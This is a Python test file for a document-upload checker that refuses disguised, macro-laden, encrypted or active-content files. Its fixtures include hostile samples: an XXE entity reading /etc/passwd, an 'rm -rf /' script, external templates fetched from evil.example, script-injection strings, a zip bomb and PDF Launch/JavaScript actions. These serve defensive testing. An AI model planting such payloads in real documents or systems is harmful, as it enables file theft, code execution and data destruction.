"""What a file really is, and the many that are refused."""

from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from tests.papers.files import made

from moothall.papers.core.file_kind import FileKind
from moothall.papers.files import intake, zip_archive
from moothall.papers.files.intake import checked, take_in
from moothall.refusals import Invalid

MACROS = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATION = (
    '<Relationship Id="rId99" Type="http://x/relationships/{}" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/>'
)


def locked_pdf() -> bytes:
    writer = PdfWriter(clone_from=BytesIO(made.pdf()))
    writer.encrypt("secret")
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def locked_zip() -> bytes:
    whole = bytearray(made.word())
    for at in range(len(whole) - 4):
        if whole[at : at + 4] == b"PK\x01\x02":
            whole[at + 8] |= 1
    return bytes(whole)


def rels(kind: str) -> bytes:
    part = "word/_rels/document.xml.rels"
    return made.word_with(part, before="</Relationships>", put=RELATION.format(kind))


def bomb() -> bytes:
    return made.word_with(word__media__bomb_bin=b"0" * (zip_archive.MOST_UNPACKED + 1))


def in_body(put: str) -> bytes:
    return made.word_with(before="<w:sectPr", put=put)


INSERTED = '<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>secretly</w:t></w:r></w:ins></w:p>'
DELETED = '<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>not this</w:delText></w:r></w:del></w:p>'
COMMENT = f'<w:comments {W}><w:comment w:id="1"><w:p/></w:comment></w:comments>'.encode()
SCRIPTS = "<office:scripts><office:script/></office:scripts>"
REGION = "<text:changed-region><text:p>secretly</text:p></text:changed-region>"
CHANGED = f"<text:tracked-changes>{REGION}</text:tracked-changes>"

HOSTILE = {
    "nothing": ("a.pdf", b"  ", "is empty"),
    "image as PDF": ("a.pdf", b"\x89PNG\r\n\x1a\n....", "is an image"),
    "photograph as PDF": ("a.pdf", b"\xff\xd8\xff\xe0....", "is an image"),
    "program as PDF": ("a.pdf", b"MZ\x90\x00....", "is a program"),
    "program as docx": ("a.docx", b"\x7fELF....", "is a program"),
    "script as text": ("a.md", b"#!/bin/sh\nrm -rf /", "is a program"),
    "old Word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Word file"),
    "text as PDF": ("a.pdf", b"just words", "whatever its name says"),
    "web page as Markdown": ("a.md", b"<!doctype html><script>alert(1)</script>", "web page"),
    "picture with a script": ("a.txt", b'<svg onload="alert(1)">', "web page"),
    "text in another encoding": ("a.txt", "caf\u00e9".encode("cp1252"), "UTF-8"),
    "text that turns about": ("a.md", "pay \u202eeno".encode(), "cannot be seen"),
    "text with a zero": ("a.txt", b"a\x00b", "cannot be seen"),
    "archive": ("a.docx", made.zip_of({"x.txt": "x"}), "neither a docx nor an odt"),
    "broken archive": ("a.docx", made.word()[:-30], "damaged"),
    "bomb": ("a.docx", bomb, "larger, once opened, than a paper may be"),
    "locked docx": ("a.docx", locked_zip(), "locked"),
    "part outside the folder": ("a.docx", made.zip_of({"../x": "x", "word/document.xml": "x"}), "damaged"),
    "macros": ("a.docx", made.word_with(**{"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": ("a.docx", made.word_with("[Content_Types].xml", before="</Types>",
        put=MACROS), "macros"),
    "embedded file": ("a.docx", made.word_with(**{"word/embeddings/a.bin": b"x"}), "embedded"),
    "template from elsewhere": ("a.docx", rels("attachedTemplate"), "fetches something from elsewhere"),
    "picture from elsewhere": ("a.docx", rels("image"), "fetches something from elsewhere"),
    "insertion": ("a.docx", in_body(INSERTED), "tracked changes (insertions), such as “secretly”"),
    "deletion": ("a.docx", in_body(DELETED), "tracked changes (deletions), such as “not this”"),
    "comment": ("a.docx", made.word_with(**{"word/comments.xml": COMMENT}), "1 comment in its margin"),
    "entity in docx": ("a.docx", made.word_with(before="<w:document", put=ENTITY), "entities of its own"),
    "no XML in docx": ("a.docx", made.word_with(**{"word/document.xml": b"no XML"}), "damaged"),
    "entity in odt": ("a.odt", made.odt(before=ENTITY), "entities of its own"),
    "changes in odt": ("a.odt", made.odt(CHANGED), "1 tracked change, such as “secretly”"),
    "comment in odt": ("a.odt", made.odt("<text:p><office:annotation/></text:p>"), "1 comment"),
    "macros in odt": ("a.odt", made.odt(Basic__script_xml="<x/>"), "macros"),
    "event in odt": ("a.odt", made.odt(scripts=SCRIPTS), "macros"),
    "odt from elsewhere": ("a.odt", made.odt('<text:section xlink:href="http://evil.example/"/>'), "fetches"),
    "template": ("a.odt", made.odt(mimetype=made.ODT + "-template"), "not an ordinary"),
    "locked odt": ("a.odt", made.zip_of({**made.parts_of(made.odt()),
        "META-INF/manifest.xml": "<m><encryption-data/></m>"}), "locked"),
    "spreadsheet": ("a.odt", made.odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"), "neither"),
    "locked PDF": ("a.pdf", locked_pdf(), "locked"),
    "cut PDF": ("a.pdf", b"%PDF-1.7\nnothing more", "damaged"),
    "JavaScript": ("a.pdf", made.pdf_with(made.runs_script), "runs JavaScript"),
    "JavaScript at once": ("a.pdf", made.pdf_with(made.opens_with("/JavaScript")), "runs JavaScript"),
    "launch": ("a.pdf", made.pdf_with(made.opens_with("/Launch")), "starts another program"),
    "sends": ("a.pdf", made.pdf_with(made.opens_with("/SubmitForm")), "sends what is typed"),
    "file within": ("a.pdf", made.pdf_with(lambda writer: writer.add_attachment("x.exe", b"MZ")), "embedded"),
    "film": ("a.pdf", made.pdf_with(made.noted("/RichMedia")), "plays a film"),
    "file pinned to a page": ("a.pdf", made.pdf_with(made.noted("/FileAttachment")), "embedded"),
}  # fmt: skip


@pytest.mark.parametrize("named", HOSTILE)
def test_a_file_that_is_more_than_something_to_read_is_refused_with_why_and_how_to_mend_it(named):
    name, file, why = HOSTILE[named]
    file = file() if callable(file) else file  # the bomb takes long to make

    with pytest.raises(Invalid, match="“a") as refusal:
        checked(file, name=name)

    [fault] = refusal.value.faults
    assert why in fault.message
    assert fault.file == name
    assert fault.fix


@pytest.mark.parametrize(
    ("name", "file", "kind"),
    [
        ("a.docx", made.word(), FileKind.WORD),
        ("a.odt", made.odt(), FileKind.OPEN_DOCUMENT),
        ("a.pdf", made.pdf(), FileKind.PDF),
        ("a.md", b"# Words", FileKind.MARKDOWN),
        ("a.txt", b"Words", FileKind.PLAIN),
        ("named wrongly.pdf", made.word(), FileKind.WORD),
        ("named.wrongly.exe", made.pdf(), FileKind.PDF),
    ],
)
def test_a_file_is_what_it_holds_and_not_what_it_is_called(name, file, kind):
    assert checked(file, name=name) is kind


def test_a_link_that_somebody_follows_may_stay_in_a_word_file():
    assert checked(rels("hyperlink"), name="a.docx") is FileKind.WORD


def test_a_file_over_25_mb_is_refused(monkeypatch):
    monkeypatch.setattr(intake, "MOST_BYTES", 100)

    with pytest.raises(Invalid, match="over 25 MB"):
        checked(made.pdf(), name="a.pdf")


@settings(max_examples=60)
@given(st.sampled_from(("docx", "odt", "pdf")), st.data())
def test_a_spoilt_file_is_taken_or_refused_and_never_anything_else(kind, data):
    whole = {"docx": made.word(), "odt": made.odt(), "pdf": made.pdf()}[kind]
    spoilt = bytearray(whole)
    for _ in range(data.draw(st.integers(1, 8))):
        spoilt[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    faults = []
    try:
        found = take_in(content=bytes(spoilt), name=f"a.{kind}").kind
    except Invalid as refusal:
        found, faults = None, list(refusal.faults)
    assert found or faults[0].fix
